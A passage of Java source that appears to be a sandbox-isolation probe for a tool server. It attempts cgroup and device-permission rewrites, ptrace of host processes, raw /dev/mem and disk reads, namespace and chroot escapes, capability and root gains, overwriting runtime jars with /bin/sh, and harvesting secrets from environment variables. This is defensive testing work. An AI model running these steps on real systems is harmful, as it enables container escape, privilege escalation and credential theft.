                    for (String p : List.of("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
                            "/sys/fs/cgroup/memory/memory.memsw.limit_in_bytes", "/sys/fs/cgroup/cpu/cpu.cfs_quota_us",
                            "/sys/fs/cgroup/pids/notify_on_release", "/sys/fs/cgroup/memory/notify_on_release",
                            "/sys/fs/cgroup/devices/devices.allow", "/sys/fs/cgroup/pids/release_agent",
                            "/sys/fs/cgroup/release_agent", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/pids/cgroup.procs")) {
                        String cur = read(p);
                        if (p.endsWith("devices.allow")) {
                            cur = "a *:* rwm";
                        } else if (p.endsWith("cgroup.procs")) {
                            cur = String.valueOf(ProcessHandle.current().pid());
                        }
                        if (cur == null) {
                            o.note(p + " " + (exists(p) ? "unreadable" : "absent"));
                            continue;
                        }
                        write(o, p, cur + NL);
                    }
                    R r = sh("echo max > /sys/fs/cgroup/pids/pids.max; echo -1 > /sys/fs/cgroup/memory/memory.limit_in_bytes");
                    o.note("sh: " + r);
                    o.data.put("pidsMax", read("/sys/fs/cgroup/pids/pids.max")).put("memoryLimit", read("/sys/fs/cgroup/memory/memory.limit_in_bytes"));
                    o.got("max".equals(read("/sys/fs/cgroup/pids/pids.max")), "pids.max is now " + read("/sys/fs/cgroup/pids/pids.max"));
                }

                static void ptrace(Out o, String hostPids) throws Exception {
                    long self = ProcessHandle.current().pid();
                    String myUid = status("Uid").split(" ")[0];
                    List<String> seen = new ArrayList<>();
                    try (var s = Files.list(Path.of("/proc"))) {
                        for (Path p : s.toList()) {
                            String name = p.getFileName().toString();
                            if (!name.chars().allMatch(Character::isDigit)) {
                                continue;
                            }
                            String cmd = head(p.resolve("cmdline"), 300).replace((char) 0, ' ').strip();
                            String uid = pidStatus(Long.parseLong(name), "Uid");
                            String low = cmd.toLowerCase(Locale.ROOT);
                            boolean hostish = false;
                            for (String k : List.of("dockerd", "containerd", "surefire", "systemd", "sshd", "maven", "plexus", "kthreadd", "/sbin/init", "runc")) {
                                hostish |= low.contains(k);
                            }
                            boolean foreignUid = uid != null && !uid.split(" ")[0].equals(myUid);
                            seen.add(name + (cmd.isEmpty() ? "" : " " + cmd.substring(0, Math.min(cmd.length(), 80))));
                            o.got(hostish || foreignUid, "visible pid " + name + " uid " + uid + ": " + cmd.substring(0, Math.min(cmd.length(), 120)));
                        }
                    }
                    o.data.put("visibleProcesses", seen.size());
                    String pid1 = head(Path.of("/proc/1/cmdline"), 1000).replace((char) 0, ' ');
                    o.got(!pid1.contains("ToolServerMain"), "pid 1 is the tool server: " + pid1.contains("ToolServerMain"));
                    List<String> targets = new ArrayList<>();
                    for (String p : hostPids.split(",")) {
                        if (p.isBlank()) {
                            continue;
                        }
                        if (exists("/proc/" + p.strip())) {
                            // a host pid number that happens to exist here names one of the sandbox's own processes
                            o.note("pid " + p + " exists in the sandbox's namespace: " + head(Path.of("/proc/" + p.strip() + "/cmdline"), 100).replace((char) 0, ' '));
                            continue;
                        }
                        targets.add(p.strip());
                    }
                    if (!targets.isEmpty()) {
                        R r = perl("for my $p (@ARGV) { my $r = syscall(101, 16, $p + 0, 0, 0); my $e = $! + 0; syscall(101, 17, $p + 0, 0, 0) if $r == 0; my $k = kill(0, $p + 0) ? 1 : 0; print qq{$p=$r/$e/$k }; } print chr(10);",
                                targets.toArray(new String[0]));
                        o.note("perl: " + r);
                        for (Map.Entry<String, String> e : kv(o, r.out).entrySet()) {
                            String[] v = e.getValue().split("/");
                            o.got(v[0].equals("0"), "PTRACE_ATTACH host pid " + e.getKey() + " returned " + v[0] + " errno " + v[1]);
                            o.got(v[2].equals("1"), "kill(0) host pid " + e.getKey() + (v[2].equals("1") ? " can be signalled" : " does not exist here"));
                        }
                        o.data.put("hostPidsTried", targets.size());
                    }
                    o.note("visible: " + seen);
                }

                static void devices(Out o) throws Exception {
                    List<String> dev = new ArrayList<>();
                    try (var s = Files.list(Path.of("/dev"))) {
                        s.forEach(p -> dev.add(p.getFileName().toString()));
                    }
                    Collections.sort(dev);
                    o.note("/dev: " + dev);
                    for (String p : List.of("/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/sdb", "/dev/vda", "/dev/vdb", "/dev/xvda",
                            "/dev/nvme0n1", "/dev/dm-0", "/dev/loop0", "/dev/hda", "/dev/kmsg", "/dev/fuse", "/dev/net/tun", "/dev/cpu/0/msr",
                            "/proc/kcore", "/dev/disk/by-uuid")) {
                        try (InputStream in = Files.newInputStream(Path.of(p))) {
                            int b = in.read();
                            o.got(true, "read " + p + " -> " + b);
                        } catch (Exception e) {
                            o.note(p + ": " + e.getClass().getSimpleName() + (e.getMessage() == null ? "" : " " + e.getMessage()));
                        }
                    }
                    R r = sh("head -c 1 /dev/vda || head -c 1 /dev/sda || head -c 1 /dev/mem");
                    o.got(r.rc == 0, "sh head -c 1 on block devices / mem: " + r);
                }

                static void userns(Out o) throws Exception {
                    for (String t : List.of("unshare -r id", "unshare -U true", "unshare -m true", "unshare -n true", "unshare -p -f true",
                            "unshare -U -r -m sh -c 'mount -t tmpfs none /tmp && echo mounted'")) {
                        R r = sh(t);
                        o.got(r.rc == 0, t + ": " + r);
                    }
                    R r = perl("my %f = (NEWUSER => 0x10000000, NEWNS => 0x20000, NEWNET => 0x40000000, NEWPID => 0x20000000, NEWUTS => 0x4000000, NEWIPC => 0x8000000, NEWCGROUP => 0x2000000); my $ok = 0; for my $k (sort keys %f) { my $r = syscall(272, $f{$k}); print qq{$k=$r/}, $!+0, q{ }; $ok++ if $r == 0 } print chr(10); exit($ok ? 0 : 1);");
                    o.got(r.rc == 0, "unshare(2): " + r);
                }

                static void chroot(Out o) throws Exception {
                    R r1 = sh("chroot / true");
                    o.got(r1.rc == 0, "chroot / true: " + r1);
                    R r2 = perl("my $p = '/tmp'; my $r = syscall(161, $p); print qq{chroot(2)=$r errno=}, $!+0, chr(10); exit($r == 0 ? 0 : 1)");
                    o.got(r2.rc == 0, "chroot(2): " + r2);
                    R r3 = perl("my ($n, $p) = ('/tmp', '/tmp'); my $r = syscall(155, $n, $p); print qq{pivot_root(2)=$r errno=}, $!+0, chr(10); exit($r == 0 ? 0 : 1)");
                    o.got(r3.rc == 0, "pivot_root(2): " + r3);
                    R r4 = sh("nsenter -t 1 -m -u -i -n -p true");
                    o.got(r4.rc == 0, "nsenter into pid 1's namespaces: " + r4);
                }

                static void caps(Out o) throws Exception {
                    for (String k : List.of("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")) {
                        String v = status(k);
                        o.data.put(k, v);
                        o.got(v == null || !v.equals("0000000000000000"), k + "=" + v);
                    }
                    for (String t : List.of("setpriv --inh-caps +all --ambient-caps +all true", "setpriv --reuid=0 --regid=0 --clear-groups id -u",
                            "setpriv --bounding-set +all grep CapBnd /proc/self/status")) {
                        R r = sh(t);
                        // a bounding set of "+all" is a no-op when it is empty: only a non-empty one afterwards is a gain
                        o.got(r.rc == 0 && !(t.contains("CapBnd") && r.out.contains("0000000000000000")), t + ": " + r);
                    }
                    R r = perl("my $h = pack('LL', 0x20080522, 0); my $d = pack('LLLLLL', 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff); my $r = syscall(126, $h, $d); print qq{capset=$r errno=}, $!+0, chr(10); exit($r == 0 ? 0 : 1)");
                    o.got(r.rc == 0, "capset(all): " + r);
                    R g = perl("my $r = syscall(105, 0); print qq{setuid(0)=$r errno=}, $!+0, chr(10); exit($r == 0 ? 0 : 1)");
                    o.got(g.rc == 0, "setuid(0): " + g);
                }

                static void pluginJar(Out o) throws Exception {
                    String jar = "/opt/claw/plugin/plugin.jar";
                    String before = sha(jar);
                    o.note("sha256 before " + before);
                    write(o, jar, "pwned", StandardOpenOption.APPEND);
                    act(o, "truncate " + jar, () -> {
                        try (FileChannel c = FileChannel.open(Path.of(jar), StandardOpenOption.WRITE)) {
                            c.truncate(0);
                        }
                    });
                    act(o, "delete " + jar, () -> Files.delete(Path.of(jar)));
                    act(o, "rename " + jar, () -> Files.move(Path.of(jar), Path.of("/opt/claw/plugin/moved.jar")));
                    write(o, "/opt/claw/plugin/evil.jar", "pwned");
                    act(o, "symlink /opt/claw/plugin/link", () -> Files.createSymbolicLink(Path.of("/opt/claw/plugin/link"), Path.of("/tmp")));
                    R r = sh("chmod 666 " + jar + "; touch " + jar + "; cp /bin/sh /opt/claw/plugin/plugin.jar; echo pwned >> " + jar);
                    o.note("sh: " + r);
                    String after = sha(jar);
                    o.got(!before.equals(after), "sha256 after " + after);
                    for (String p : List.of("/opt/claw/plugin/evil.jar", "/opt/claw/plugin/moved.jar", "/opt/claw/plugin/link")) {
                        o.got(exists(p), p + (exists(p) ? " exists" : " absent"));
                    }
                    o.got(!exists(jar), jar + (exists(jar) ? " still there" : " is gone"));
                    o.data.put("sha256", after);
                }

                static void runtimeLib(Out o) throws Exception {
                    Path lib = Path.of("/opt/claw/lib");
                    Map<String, String> before = new TreeMap<>();
                    try (var s = Files.list(lib)) {
                        for (Path p : s.toList()) {
                            before.put(p.getFileName().toString(), sha(p.toString()));
                        }
                    }
                    String first = lib.resolve(before.keySet().iterator().next()).toString();
                    write(o, first, "pwned", StandardOpenOption.APPEND);
                    act(o, "delete " + first, () -> Files.delete(Path.of(first)));
                    act(o, "rename " + first, () -> Files.move(Path.of(first), lib.resolve("moved.jar")));
                    write(o, "/opt/claw/lib/aaa-evil.jar", "pwned");
                    write(o, "/opt/claw/lib/zzz-evil.jar", "pwned");
                    R r = sh("touch /opt/claw/lib/x.jar; rm -f " + q(first) + "; chmod 777 /opt/claw/lib; cp /bin/sh " + q(first));
                    o.note("sh: " + r);
                    Map<String, String> after = new TreeMap<>();
                    try (var s = Files.list(lib)) {
                        for (Path p : s.toList()) {
                            after.put(p.getFileName().toString(), sha(p.toString()));
                        }
                    }
                    o.got(!before.equals(after), "runtime jars " + (before.equals(after) ? "unchanged (" + before.size() + ")" : "CHANGED: " + before + " -> " + after));
                    o.data.put("jars", before.size());
                }

                static void tmpFill(Out o) throws Exception {
                    Path f = Path.of("/tmp/fill");
                    long written = 0;
                    String err = null;
                    byte[] mb = new byte[1 << 20];
                    Arrays.fill(mb, (byte) 'x');
                    try (OutputStream out = Files.newOutputStream(f)) {
                        for (int i = 0; i < 96; i++) {
                            out.write(mb);
                            written += mb.length;
                        }
                    } catch (IOException e) {
                        err = e.getMessage();
                    }
                    long size = Files.exists(f) ? Files.size(f) : 0;
                    FileStore st = Files.getFileStore(Path.of("/tmp"));
                    R df = sh("df -k /tmp; head -c 2m /dev/zero > /tmp/fill2; echo rc=$?");
                    Files.deleteIfExists(f);
                    Files.deleteIfExists(Path.of("/tmp/fill2"));
                    o.data.put("written", written).put("size", size).put("tmpTotal", st.getTotalSpace()).put("error", String.valueOf(err));
                    o.note("error while writing: " + err + "; " + df);
                    o.got(size > (64L << 20), "wrote " + size + " bytes into /tmp (tmpfs of " + st.getTotalSpace() + " bytes)");
                    o.got(st.getTotalSpace() > (64L << 20), "/tmp size " + st.getTotalSpace());
                }

                static void tmpExec(Out o) throws Exception {
                    R r = sh("cp /bin/true /tmp/x && chmod 755 /tmp/x && /tmp/x");
                    o.got(r.rc == 0, "exec a copied binary from /tmp: " + r);
                    R s = sh("printf '#!/bin/sh' > /tmp/s.sh && chmod 755 /tmp/s.sh && /tmp/s.sh");
                    o.got(s.rc == 0, "exec a script from /tmp: " + s);
                    R m = sh("mount | grep ' /tmp '");
                    o.note("mount: " + m);
                    o.got(!m.out.contains("noexec"), "/tmp mounted noexec: " + m.out.contains("noexec"));
                }

                static void flood(Out o, String bytes) throws Exception {
                    Process p = new ProcessBuilder("sh", "-c", "yes pwned-stdout-flood | head -c " + Long.parseLong(bytes))
                            .redirectOutput(ProcessBuilder.Redirect.INHERIT).redirectError(ProcessBuilder.Redirect.DISCARD).start();
                    boolean done = p.waitFor(15, TimeUnit.SECONDS);
                    o.got(done && p.exitValue() == 0, bytes + " bytes went to the container's stdout and the tool is still alive");
                }

                static void stderrFlood(Out o, String bytes) throws Exception {
                    long t0 = System.nanoTime();
                    Process p = new ProcessBuilder("sh", "-c", "yes pwned-stderr-flood | head -c " + Long.parseLong(bytes) + " >&2")
                            .redirectError(ProcessBuilder.Redirect.INHERIT).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
                    boolean done = p.waitFor(15, TimeUnit.SECONDS);
                    long ms = (System.nanoTime() - t0) / 1_000_000;
                    o.data.put("ms", ms).put("bytes", Long.parseLong(bytes));
                    o.got(done && p.exitValue() == 0, bytes + " bytes went to the container's stderr unthrottled in " + ms + " ms");
                }

                static void env(Out o) throws Exception {
                    Map<String, String> env = new TreeMap<>(System.getenv());
                    for (Map.Entry<String, String> e : env.entrySet()) {
                        o.got(sensitive(e.getKey() + "=" + e.getValue()), "env " + e.getKey() + "=" + e.getValue());
                    }
                    for (String p : List.of("/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline")) {
                        String v = head(Path.of(p), 8000).replace((char) 0, ' ');
                        o.got(sensitive(v), p + ": " + v);
                    }
                    o.data.put("envKeys", String.join(",", env.keySet()));
                }

                static boolean sensitive(String s) {
                    String u = s.toUpperCase(Locale.ROOT);
                    for (String k : List.of("TOKEN", "SECRET", "PASSWORD", "OPENCLAW", "CLAW_", "API_KEY", "APIKEY", "DOCKER_HOST",
                            "AWS_", "GITHUB", "PRIVATE", "CREDENTIAL")) {
                        if (u.contains(k)) {
                            return true;
                        }
                    }
                    return false;
                }

                static void roWrite(Out o, String existingName) throws Exception {
                    String existing = "/workspace/" + existingName;
                    String before = sha(existing);
                    String modeBefore = PosixFilePermissions.toString(Files.getPosixFilePermissions(Path.of(existing)));
                    write(o, "/workspace/ro-escape.txt", "pwned");
                    write(o, existing, "pwned", StandardOpenOption.APPEND);
                    act(o, "delete " + existing, () -> Files.delete(Path.of(existing)));
                    act(o, "mkdir /workspace/ro-dir", () -> Files.createDirectory(Path.of("/workspace/ro-dir")));
                    act(o, "symlink /workspace/ro-link", () -> Files.createSymbolicLink(Path.of("/workspace/ro-link"), Path.of("/etc")));
                    act(o, "rename " + existing, () -> Files.move(Path.of(existing), Path.of("/workspace/ro-renamed")));
                    act(o, "chmod " + existing, () -> Files.setPosixFilePermissions(Path.of(existing), PosixFilePermissions.fromString("rwxrwxrwx")));
                    R r = sh("touch /workspace/ro-touch; echo pwned > /workspace/ro-sh; mount -o remount,rw /workspace; echo pwned >> " + q(existing));
                    o.note("sh: " + r);
                    for (String p : List.of("/workspace/ro-escape.txt", "/workspace/ro-dir", "/workspace/ro-link", "/workspace/ro-renamed",
                            "/workspace/ro-touch", "/workspace/ro-sh")) {
                        o.got(exists(p), p + (exists(p) ? " exists" : " absent"));
                    }
                    o.got(!before.equals(sha(existing)), existing + " sha256 " + before + " -> " + sha(existing));
                    String modeAfter = exists(existing) ? PosixFilePermissions.toString(Files.getPosixFilePermissions(Path.of(existing))) : "gone";
                    o.got(!modeBefore.equals(modeAfter), existing + " mode " + modeBefore + " -> " + modeAfter);
                    String mounts = read("/proc/self/mounts");
                    String line = mounts == null ? "" : mounts.lines().filter(l -> l.contains(" /workspace ")).findFirst().orElse("");
                    o.note("mount: " + line);
                    o.got(!line.contains(" ro,") && !line.contains(" ro "), "/workspace mounted read-only: " + (line.contains(" ro,") || line.contains(" ro ")));
                }
            }
            """;
}
